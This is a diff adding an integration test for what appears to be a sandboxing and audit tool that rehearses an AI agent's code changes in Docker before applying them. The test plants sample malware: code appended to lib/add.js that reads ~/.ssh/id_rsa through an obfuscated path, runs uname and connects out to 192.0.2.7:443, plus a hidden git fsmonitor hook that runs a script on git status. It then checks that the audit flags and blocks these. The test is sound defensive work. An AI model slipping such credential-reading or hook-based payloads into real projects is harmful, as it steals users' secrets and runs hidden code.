@@ -1,0 +1,98 @@
+import { execFileSync, spawn } from 'node:child_process';
+import { once } from 'node:events';
+import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import path from 'node:path';
+import { expect, it } from 'vitest';
+import { mainJs, Scene } from '../../../support/scene.ts';
+
+/** No rule of text knows what these lines are: the tests stay green. */
+const HIDDEN = `
+try { require("child_process").execSync("uname"); } catch {}
+try { require("fs").readFileSync([require("os").homedir(), "." + "ssh", "id_" + "rsa"].join("/")); } catch {}
+try { require("net").connect(443, "192.0.2.7").on("error", () => {}).unref(); } catch {}
+`;
+
+const FILES: Readonly<Record<string, string>> = {
+  'package.json': JSON.stringify({ name: 'p', version: '1.0.0', scripts: { test: 'node --test' } }),
+  'lib/add.js': 'exports.add = (a, b) => a + b;\n',
+  'test/add.test.js':
+    'require("node:test")("adds", () => { if (require("../lib/add.js").add(1, 2) !== 3) throw new Error(); });\n',
+};
+
+function project(): Scene {
+  const scene = new Scene();
+  for (const [name, content] of Object.entries(FILES)) {
+    mkdirSync(path.dirname(path.join(scene.project, name)), { recursive: true });
+    writeFileSync(path.join(scene.project, name), content);
+  }
+  scene.git('add', '-A');
+  scene.git('commit', '-qm', 'project');
+  return scene;
+}
+
+const inside = (scene: Scene, script: string) => scene.run(['exec', scene.project, '--', 'sh', '-c', script]);
+
+/** Kills a rehearsal. Its container ends with it: the observer's input did. */
+async function killRehearsal(scene: Scene, id: string): Promise<void> {
+  const command = spawn(process.execPath, [mainJs, 'rehearse'], {
+    cwd: scene.project,
+    env: scene.env,
+    stdio: 'ignore',
+  });
+  await expect.poll(() => left(id, 'ps', '-q')).not.toBe('');
+  command.kill('SIGKILL');
+  await once(command, 'exit');
+  await expect.poll(() => left(id, 'ps', '-q')).toBe('');
+}
+
+const left = (id: string, ...words: string[]): string =>
+  execFileSync('docker', [...words, '--filter', `label=run-claude.session=${id}`], { encoding: 'utf8' });
+
+it('names what the changes start, keeps it with the audit, is silent about a harmless change, and leaves nothing', async () => {
+  await using scene = project();
+  await inside(scene, 'echo "exports.sub = (a, b) => a - b;" >> lib/add.js; echo notes > notes.txt');
+  const [session] = JSON.parse((await scene.run(['sessions', '--json'])).stdout);
+  await killRehearsal(scene, session.id);
+  const harmless = await scene.run(['rehearse', '--json']);
+  // Nothing is left of it, nor of the one that was killed.
+  expect([left(session.id, 'ps', '-aq'), left(session.id, 'volume', 'ls', '-q')]).toEqual(['', '']);
+  expect(existsSync(path.join(scene.places().stateDir, 'sessions', session.id, 'explore'))).toBe(false);
+  expect(JSON.parse(harmless.stdout)).toMatchObject({ findings: [], untouched: ['notes.txt'] });
+  expect(JSON.parse(harmless.stdout).ran).toEqual(expect.arrayContaining(['git status', 'npm test', 'npm install']));
+  expect(harmless.status).toBe(0);
+  await scene.run(['discard', '--yes']);
+
+  // At the end of a session: what it finds holds everything back.
+  const auto = ['exec', '--auto-apply', '--rehearse', 'always', scene.project, '--', 'sh', '-c'];
+  const held = await scene.run([...auto, `echo notes > notes.txt; cat >> lib/add.js <<'JS'\n${HIDDEN}JS`]);
+  expect(held.stderr).toMatch(/WARNING: Opens a connection: lib\/add\.js: npm test: connects to 192\.0\.2\.7:443/);
+  expect(held.status).toBe(121);
+  expect(existsSync(path.join(scene.project, 'notes.txt'))).toBe(false);
+  await scene.run(['discard', '--yes']);
+
+  const hidden = `cat >> lib/add.js <<'JS'\n${HIDDEN}JS\nmkdir .tools; printf '#!/bin/sh\\nid\\nexit 1\\n' > .tools/fs.sh; chmod +x .tools/fs.sh; printf '[core]\\n\\tfsmonitor = .tools/fs.sh\\n' >> .git/config`;
+  const ended = await inside(scene, hidden);
+  expect(ended.stderr).not.toContain('lib/add.js');
+  const before = scene.fingerprint();
+  const found = await scene.run(['rehearse']);
+  expect(found.status).toBe(123);
+  expect(
+    found.stderr.replaceAll(/ \(npm > [^)]*\)/g, ''),
+  ).toContain(`WARNING: Opens a connection: lib/add.js: npm test: connects to 192.0.2.7:443
+            Reads a secret: npm test: reads ~/.ssh/id_rsa
+            Starts a program: npm test: starts uname
+`);
+  // What the audit read, and what it runs.
+  expect(found.stderr).toMatch(
+    /Hidden file of an unknown tool: \.tools\/fs\.sh: .*\n +and it runs: git status and \d more commands: starts sh \.tools\/fs\.sh/,
+  );
+  // Each finding once, and no other.
+  expect(found.stderr.match(/lib\/add\.js/g)).toHaveLength(1);
+  expect(scene.fingerprint()).toBe(before);
+
+  const status = await scene.run(['status']);
+  expect(status.stderr + status.stdout).toContain('Reads a secret: npm test');
+  const applied = await scene.run(['apply', '--yes']);
+  expect(applied.status).toBe(121);
+  expect(readFileSync(path.join(scene.project, 'lib/add.js'), 'utf8')).toBe(FILES['lib/add.js']);
+});
